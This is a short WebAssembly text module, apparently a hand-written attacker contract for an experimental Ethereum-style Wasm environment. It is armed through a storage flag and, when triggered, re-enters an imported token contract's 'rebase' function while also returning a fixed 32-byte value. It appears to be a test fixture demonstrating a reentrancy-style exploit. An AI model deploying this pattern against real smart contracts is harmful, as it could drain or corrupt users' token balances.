;; The attack by hand.
(module $attacker
  (import "contract:token" "rebase" (func $token.rebase))
  (import "ethereum" "getCallDataSize" (func $eth_getCallDataSize (result i32)))
  (import "ethereum" "callDataCopy" (func $eth_callDataCopy (param i32 i32 i32)))
  (import "ethereum" "finish" (func $eth_finish (param i32 i32)))
  (import "storage" "memory" (memory $storage 1))
  (memory $memory (export "memory") 3)

  (func $_be_set (param $at i64) (param $n i64) (param $x i64)
    (local $i i64)
    (local.set $i (i64.sub (local.get $n) (i64.const 1)))
    (block $end43
      (loop $again43
        (br_if $end43 (i32.eqz (i64.ge_s (local.get $i) (i64.const 0))))
        (i64.store8 $memory (i32.wrap_i64 (i64.add (local.get $at) (local.get $i))) (i64.and (local.get $x) (i64.const 255)))
        (local.set $x (i64.shr_u (local.get $x) (i64.const 8)))
        (local.set $i (i64.sub (local.get $i) (i64.const 1)))
        (br $again43))))

  (func $main (export "main")
    (if (i64.eq (i64.extend_i32_u (call $eth_getCallDataSize )) (i64.const 9))
      (then
        (call $eth_callDataCopy (i32.const 64) (i32.const 0) (i32.const 1))
        (if (i64.eq (i64.load8_u $memory (i32.const 64)) (i64.const 1))
          (then
            (call $_be_set (i64.const 96) (i64.const 8) (i64.const 11740679723003544109))
            (call $_be_set (i64.const 104) (i64.const 8) (i64.const 5993525052777514823))
            (call $_be_set (i64.const 112) (i64.const 8) (i64.const 5073259836771438629))
            (call $_be_set (i64.const 120) (i64.const 8) (i64.const 1419456324974474420))
            (call $eth_finish (i32.const 96) (i32.const 32))))
        (if (i64.eq (i64.load $storage (i32.const 0)) (i64.const 1))
          (then
            (i64.store $storage (i32.const 0) (i64.const 0))
            (call $token.rebase ))))))

  (func $arm (export "arm") (param $x i64)
    (i64.store $storage (i32.const 0) (local.get $x))))
